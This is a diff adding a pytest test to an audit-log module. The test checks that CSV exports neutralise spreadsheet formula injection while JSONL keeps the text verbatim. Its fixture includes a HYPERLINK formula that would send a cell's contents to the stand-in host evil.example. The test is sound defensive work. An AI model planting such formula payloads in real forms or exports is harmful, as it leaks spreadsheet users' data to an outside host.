@@ -499,3 +499,19 @@ def test_unknown_actions_and_channels_are_refused_naming_the_valid_ones():
     with pytest.raises(InvalidInput) as channel:
         check_filters(channel="email")
     assert all(name in channel.value.message for name in CHANNELS)
+
+
+def test_the_csv_export_defuses_spreadsheet_formulas(log: AuditLog, tmp_path: Path):
+    """A purpose an applicant typed reaches the data office's spreadsheet through the CSV: text
+    starting like a formula gets a leading ' there; the JSONL keeps it verbatim."""
+    evil = '=HYPERLINK("http://evil.example/?x="&B2,"详情")'
+    log.access(ANALYST, channel="rest", dataset="dibao", columns=["a"], rows=1, purpose=evil)
+    log.access(ANALYST, channel="rest", dataset="dibao", columns=["a"], rows=-1, purpose="@SUM")
+    log.export(tmp_path / "a.csv", "csv")
+    with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as handle:
+        table = list(csv.DictReader(handle))
+    assert [row["purpose"] for row in table] == ["'" + evil, "'@SUM"]
+    assert table[1]["rows"] == "-1"  # a number is a number, not text to defuse
+    log.export(tmp_path / "a.jsonl", "jsonl")
+    rows = [json.loads(line) for line in (tmp_path / "a.jsonl").read_text().splitlines()]
+    assert rows[0]["purpose"] == evil
